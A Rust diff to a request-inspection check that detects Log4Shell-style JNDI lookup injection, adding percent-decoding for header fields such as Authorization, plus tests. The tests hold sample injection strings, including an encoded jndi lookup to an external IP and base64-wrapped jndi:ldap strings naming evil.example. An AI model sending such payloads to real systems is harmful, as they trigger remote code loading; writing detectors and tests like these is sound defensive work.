@@ -32,16 +32,37 @@ impl Check for Jndi {
     }
 
     fn inspect(&self, input: &Input<'_>) -> Option<Finding> {
-        if !input.bytes.all(b"${:") {
+        // A field the engine gives no decoded view (a credential header such as
+        // Authorization) can still hold `%24%7B...`: undo up to three percent layers here.
+        let decoded;
+        let text = if input.bytes.all(b"${:") {
+            input.text.as_bytes()
+        } else if input.bytes.all(b"%24") && has_encoded_open(input.text.as_bytes()) {
+            let mut t = input.text.as_bytes().to_vec();
+            for _ in 0..3 {
+                if !t.contains(&b'%') {
+                    break;
+                }
+                t = crate::mail::percent_decode(&t);
+            }
+            decoded = t;
+            &decoded[..]
+        } else {
             return None;
-        }
-        let (level, reason) = match scan(input.text.as_bytes(), 0) {
+        };
+        let (level, reason) = match scan(text, 0) {
             Scan { jndi: Some(level), .. } => (level, "deserialization:jndi-lookup"),
             Scan { spelled: true, .. } => (1, "deserialization:log4j-obfuscation"),
             _ => return None,
         };
         (level <= input.sensitivity).then_some(Finding { reason, score: 0.95, level })
     }
+}
+
+/// `%24` (or `%2524`...) right before `{`/`%7B`: an encoded lookup opener.
+fn has_encoded_open(b: &[u8]) -> bool {
+    b.windows(5).any(|w| w[0] == b'%' && (w[1..3] == *b"24" || w[1..3] == *b"25"))
+        && b.windows(3).any(|w| w[0] == b'%' && (w[1..] == *b"7B" || w[1..] == *b"7b" || w[1..] == *b"25"))
 }
 
 /// What [`scan`] found.
@@ -248,6 +269,14 @@ mod tests {
         assert_eq!(level("${${base64:am5kaTpsZGFwOi8vZXZpbC5leGFtcGxlL2E=}}"), Some(1));
         assert_eq!(level("${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}"), Some(1));
         assert_eq!(level("$${jndi:ldap://x/a}"), Some(1));
+    }
+
+    #[test]
+    fn percent_encoded_in_a_field_without_a_decoded_view() {
+        use crate::{Check, Input};
+        let input = Input::new("Bearer%20%24%7BjNdi%3ANis%3A%2F%2F198.51.100.198%3A80%2FExploit%7D");
+        assert!(super::Jndi.inspect(&input).is_some());
+        assert!(super::Jndi.inspect(&Input::new("100%25 of %7Bitems%7D")).is_none());
     }
 
     #[test]
